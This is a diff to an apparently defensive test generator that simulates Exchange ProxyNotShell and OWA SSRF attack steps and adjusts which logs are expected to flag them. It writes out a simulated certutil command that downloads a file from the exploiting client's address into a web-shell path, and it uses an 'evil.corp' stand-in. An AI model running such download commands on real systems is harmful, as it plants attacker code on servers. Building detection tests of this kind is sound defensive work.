@@ -172,10 +172,15 @@ public final class RandomScenarios {
             String windows = "C:\\" + shell.replace('/', '\\');
             if (r.nextBoolean()) s.step(Attacks.proxyNotShellRequest(at, ip, user, name() + "@evil.corp", 200));
             else s.step(Attacks.owaSsrf(at, ip, user, 200));
+            Expect started = Expect.success(Rows.PROXYNOTSHELL, "a shell started by Exchange's PowerShell application pool");
+            // Security's 4688 does not say which application pool started the shell; alone, it is tied to the exploit
+            // by the address the command downloads from, the exploiting client's (ARCHITECTURE.md's fourth linking rule)
+            Expect securityAlone = kinds.contains(LogKind.SYSMON) ? started : Expect.postExploitation(Rows.PROXYNOTSHELL,
+                    "a shell started by IIS that downloads from the exploiting client's address");
             Step cmd = Attacks.process(at.plusSeconds(8), "C:\\Windows\\System32\\cmd.exe", "Windows Command Processor",
                     "cmd.exe /c certutil.exe -urlcache -split -f http://" + ip + "/" + name() + ".txt \"" + windows + "\"",
-                    Attacks.w3wp(), Attacks.w3wpCommandLine("MSExchangePowerShellAppPool"), 5000 + r.nextInt(4000), 3384, true,
-                    Expect.success(Rows.PROXYNOTSHELL, "a shell started by Exchange's PowerShell application pool"));
+                    Attacks.w3wp(), Attacks.w3wpCommandLine("MSExchangePowerShellAppPool"), 5000 + r.nextInt(4000), 3384,
+                    securityAlone, started);
             s.step(cmd);
             boolean named = kinds.contains(LogKind.SYSMON) || kinds.contains(LogKind.SECURITY);
             s.step(Attacks.fileCreate(at.plusSeconds(10), "C:\\Windows\\System32\\certutil.exe", 9000 + r.nextInt(900),
